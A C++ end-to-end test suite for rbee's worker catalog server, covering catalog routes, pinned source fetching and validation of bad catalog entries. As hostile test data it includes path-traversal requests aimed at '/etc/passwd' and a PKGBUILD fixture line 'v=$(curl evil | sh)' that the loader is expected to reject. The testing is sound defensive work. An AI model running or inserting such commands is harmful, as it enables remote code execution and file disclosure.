// `rbee catalog serve` on loopback with a catalog made by
// scripts/make-catalog.sh from this checkout: the routes, hostile paths, and
// a hive-side fetch of the real recipe's pinned source through it.
#include "actors/install/catalog.hpp"
#include "io/fetch.hpp"
#include "messages/errc.hpp"
#include "actors/install/sources.hpp"
#include "tests/e2e/e2e.hpp"

#include <caf/error.hpp>

#include <filesystem>
#include <fstream>

using namespace rbee;
using namespace rbee::test;
using namespace std::chrono_literals;
namespace fs = std::filesystem;

namespace {

class Catalog : public ::testing::Test {
protected:
  static void SetUpTestSuite() {
    dir = new std::string(temp_dir() + "/catalog");
    auto r = run({"/bin/bash", std::string(RBEE_SOURCE_DIR) + "/scripts/make-catalog.sh", *dir}, private_env(), 120s);
    ASSERT_EQ(r.status, 0) << r.err;
  }
  static void TearDownTestSuite() { delete dir; }
  void SetUp() override {
    d = start_daemon({"catalog", "serve", "--port", "0", "--dir", *dir}, private_env());
    ASSERT_GT(d.port, 0);
  }
  get_result get(const std::string& path) { return http_get(d.base() + path, {}); }
  static std::string* dir;
  rbee_daemon d;
};
std::string* Catalog::dir = nullptr;

TEST_F(Catalog, ListsTheThreeWorkers) {
  auto r = get("/workers");
  ASSERT_EQ(r.status, 200) << r.body;
  for (auto id : {"rbee-worker-cpu", "rbee-worker-cuda", "rbee-worker-metal"})
    EXPECT_NE(r.body.find(std::string("\"id\":\"") + id + "\""), std::string::npos) << id;
  auto one = get("/workers/rbee-worker-cpu");
  ASSERT_EQ(one.status, 200);
  auto e = parse_catalog_entry(one.body);
  ASSERT_TRUE(e) << caf::to_string(e.error());
  EXPECT_EQ(e->backend, "cpu");
  EXPECT_EQ(e->binary, "rbee-worker");
  EXPECT_EQ(e->platforms, std::vector<std::string>{"linux"});
  for (auto field : {"\"version\":\"0.1.0-1\"", "\"makedepends\":[", "\"supported_formats\":[\"gguf\"]", "\"max_context\"",
                     "\"description\""})
    EXPECT_NE(one.body.find(field), std::string::npos) << field;
  auto metal = parse_catalog_entry(get("/workers/rbee-worker-metal").body);
  ASSERT_TRUE(metal);
  EXPECT_EQ(metal->platforms, std::vector<std::string>{"macos"});
  EXPECT_EQ(get("/health").status, 200);
}

TEST_F(Catalog, ServesTheRecipeAndItsPinnedSource) {
  auto text = get("/workers/rbee-worker-cpu/PKGBUILD");
  ASSERT_EQ(text.status, 200);
  auto recipe = parse_pkgbuild(text.body);
  ASSERT_TRUE(recipe) << caf::to_string(recipe.error());
  auto plan = plan_sources(*recipe, d.base());
  ASSERT_TRUE(plan) << caf::to_string(plan.error());
  ASSERT_EQ(plan->size(), 1u);
  EXPECT_EQ((*plan)[0].url, d.base() + "/sources/rbee-0.1.0.tar.gz");
  // Fetched, verified against the pin, unpacked: the project's own source.
  auto tree = temp_dir() + "/tree";
  std::atomic<bool> cancel{false};
  auto ok = fetch_sources(*plan, tree, nullptr, cancel);
  ASSERT_TRUE(ok) << caf::to_string(ok.error());
  EXPECT_TRUE(fs::exists(tree + "/src/rbee-0.1.0/CMakeLists.txt"));
  EXPECT_TRUE(fs::exists(tree + "/src/rbee-0.1.0/cli/rbee_worker.cpp"));
}

TEST_F(Catalog, HostileAndUnknownPaths) {
  std::string long_id = "/workers/";
  long_id.append(5000, 'a');
  for (const std::string& p : std::vector<std::string>{"/workers/nope", "/workers/../etc/passwd", "/workers/rbee-worker-cpu/../../x", "/sources/..%2f..%2fetc%2fpasswd",
                        "/sources/.hidden", "/sources/nope.tar.gz", "/sources/", "/workers/rbee-worker-cpu/nope.json",
                        "/v1/jobs", "/nothing", long_id, "/", "//", "/?x=1"}) {
    auto r = get(p);
    EXPECT_TRUE(r.status == 404 || r.status == 400 || r.status == 431 || r.status == 414) << p << " -> " << r.status << " " << r.body;
  }
  // The server is still there after all of that (GET / once dereferenced an empty path and died).
  EXPECT_EQ(get("/health").status, 200);
}

TEST_F(Catalog, HiveSideGetsNameTheCatalog) {
  auto ok = catalog_get(d.base(), "/workers/rbee-worker-cpu");
  ASSERT_TRUE(ok) << caf::to_string(ok.error());
  EXPECT_TRUE(parse_catalog_entry(*ok));
  auto missing = catalog_get(d.base(), "/workers/nope");
  ASSERT_FALSE(missing);
  EXPECT_TRUE(missing.error() == errc::not_found);
  auto down = catalog_get("http://127.0.0.1:1", "/workers");
  ASSERT_FALSE(down);
  EXPECT_TRUE(down.error() == errc::unavailable);
  EXPECT_NE(caf::to_string(down.error()).find("http://127.0.0.1:1 is unreachable"), std::string::npos);
  auto wrong = catalog_get(d.base(), "/v1/jobs"); // 404 from a server that is not a catalog route
  EXPECT_FALSE(wrong);
}

TEST(CatalogLoad, BadCatalogsAreRefusedNamingTheEntry) {
  auto dir = temp_dir() + "/bad";
  fs::create_directories(dir + "/workers/w");
  std::ofstream(dir + "/workers/w/PKGBUILD") << "pkgname=w\npkgver=1\npkgrel=1\nv=$(curl evil | sh)\n";
  std::ofstream(dir + "/workers/w/meta.json") << R"({"platforms":["linux"],"architectures":["x86_64"],"backend":"cpu","binary":"b"})";
  auto env = private_env();
  auto r = run({rbee_bin(), "catalog", "serve", "--port", "0", "--dir", dir}, env, 20s);
  EXPECT_EQ(r.status, 2);
  EXPECT_NE(r.err.find("catalog entry w: PKGBUILD line 4: command substitution"), std::string::npos) << r.err;
  // Nothing a hive would refuse gets signed, and a missing directory or key is said.
  auto sign = run({rbee_bin(), "catalog", "sign", "--dir", dir}, env, 20s);
  EXPECT_EQ(sign.status, 1);
  EXPECT_NE(sign.err.find("command substitution"), std::string::npos) << sign.err;
  EXPECT_FALSE(fs::exists(dir + "/index.json"));
  EXPECT_EQ(run({rbee_bin(), "catalog", "sign", "--dir", dir + "/missing"}, env, 20s).status, 1);
  auto nokey = run({rbee_bin(), "catalog", "sign", "--dir", dir, "--key", dir + "/nokey.pem"}, env, 20s);
  EXPECT_EQ(nokey.status, 1);
  EXPECT_EQ(run({rbee_bin(), "catalog", "sign"}, env, 20s).status, 2); // --dir is required
  std::ofstream(dir + "/workers/w/PKGBUILD") << "pkgname=other\npkgver=1\npkgrel=1\n";
  auto c = worker_catalog::load(dir);
  ASSERT_FALSE(c);
  EXPECT_NE(caf::to_string(c.error()).find("pkgname must be the entry's id"), std::string::npos);
  std::ofstream(dir + "/workers/w/PKGBUILD") << "pkgname=w\npkgver=1\npkgrel=1\n";
  for (auto [meta, why] : std::vector<std::pair<std::string, std::string>>{
           {"{not json", "not valid JSON"},
           {R"({"platforms":"linux","architectures":[],"backend":"cpu","binary":"b"})", "'platforms' must be an array"},
           {R"({"platforms":[],"architectures":[],"backend":"cpu","binary":"../b"})", "plain file name"},
           {R"({"platforms":[],"architectures":[1],"backend":"cpu","binary":"b"})", "'architectures'"},
           {R"({"platforms":[],"architectures":[],"binary":"b"})", "'backend'"},
           {R"({"platforms":[],"architectures":[],"backend":"cu\"da","binary":"b"})", "'backend' must be a short"},
           {R"({"platforms":[],"architectures":[],"backend":"","binary":"b"})", "'backend' must be a short"}}) {
    std::ofstream(dir + "/workers/w/meta.json") << meta;
    auto l = worker_catalog::load(dir);
    ASSERT_FALSE(l) << meta;
    EXPECT_NE(caf::to_string(l.error()).find(why), std::string::npos) << caf::to_string(l.error());
  }
  std::ofstream(dir + "/workers/w/meta.json") << R"({"platforms":[],"architectures":[],"backend":"cpu","binary":"b"})";
  auto good = worker_catalog::load(dir);
  ASSERT_TRUE(good) << caf::to_string(good.error());
  EXPECT_EQ(good->entries().size(), 1u);
  EXPECT_FALSE(worker_catalog::load(temp_dir() + "/none"));
  EXPECT_FALSE(parse_catalog_entry("{\"id\":\"../x\",\"platforms\":[],\"architectures\":[],\"backend\":\"c\",\"binary\":\"b\"}"));
  EXPECT_FALSE(parse_catalog_entry("[]"));
}

} // namespace

namespace {

TEST(RbeeWorkerBinary, VersionAndBadArguments) {
  auto bin = (fs::path(rbee_bin()).parent_path() / "rbee-worker").string();
  if (!fs::exists(bin)) GTEST_SKIP() << "rbee-worker not built";
  auto v = run({bin, "--version"});
  EXPECT_EQ(v.status, 0);
  EXPECT_NE(v.out.find("rbee-worker 0.1.0"), std::string::npos);
  EXPECT_EQ(run({bin}).status, 2) << "missing --hive and --model";
  auto bad = run({bin, "--hive", "nope", "--model", "/nonexistent.gguf"});
  EXPECT_EQ(bad.status, 2);
  EXPECT_NE(bad.err.find("--hive must be HOST:PORT"), std::string::npos) << bad.err;
  EXPECT_EQ(run({bin, "--hive", "127.0.0.1:1", "--model", "m", "--slots", "999"}).status, 2);
}

} // namespace

namespace {

TEST_F(Catalog, RbeeServeMountsACatalogInItsDataDir) {
  auto env = private_env();
  auto data = env[1].substr(env[1].find('=') + 1) + "/rbee";
  fs::create_directories(data);
  fs::copy(*dir, data + "/catalog", fs::copy_options::recursive);
  auto serve = start_daemon({"serve", "--port", "0"}, env);
  ASSERT_GT(serve.port, 0);
  auto list = http_get(serve.base() + "/workers", {});
  EXPECT_EQ(list.status, 200);
  EXPECT_NE(list.body.find("rbee-worker-cpu"), std::string::npos);
  EXPECT_EQ(http_get(serve.base() + "/v1/jobs", {}).status, 200) << "the API is still there";
  EXPECT_EQ(http_get(serve.base() + "/sources/rbee-0.1.0.tar.gz", {}).status, 200);
}

// A catalog made while `rbee serve` runs is served and used by its hive at once;
// removed, it is gone at once (no restart either way).
TEST_F(Catalog, RbeeServePicksUpACatalogMadeWhileItRuns) {
  auto env = private_env();
  auto data = env[1].substr(env[1].find('=') + 1) + "/rbee";
  fs::create_directories(data);
  auto serve = start_daemon({"serve", "--port", "0"}, env);
  ASSERT_GT(serve.port, 0);
  env.push_back("RBEE_QUEEN_URL=" + serve.base());
  EXPECT_EQ(http_get(serve.base() + "/workers", {}).status, 404);
  auto none = run({rbee_bin(), "workers", "available"}, env, 30s);
  EXPECT_EQ(none.status, 1);
  EXPECT_NE(none.err.find("rbee catalog serve"), std::string::npos) << "the error says how to get one: " << none.err;
  fs::copy(*dir, data + "/catalog.tmp", fs::copy_options::recursive);
  fs::rename(data + "/catalog.tmp", data + "/catalog");
  auto list = http_get(serve.base() + "/workers", {});
  EXPECT_EQ(list.status, 200);
  auto avail = run({rbee_bin(), "workers", "available"}, env, 30s);
  EXPECT_EQ(avail.status, 0) << avail.err;
  EXPECT_NE(avail.out.find("rbee-worker-cpu"), std::string::npos) << avail.out;
  fs::remove_all(data + "/catalog");
  EXPECT_EQ(http_get(serve.base() + "/workers", {}).status, 404);
}

} // namespace
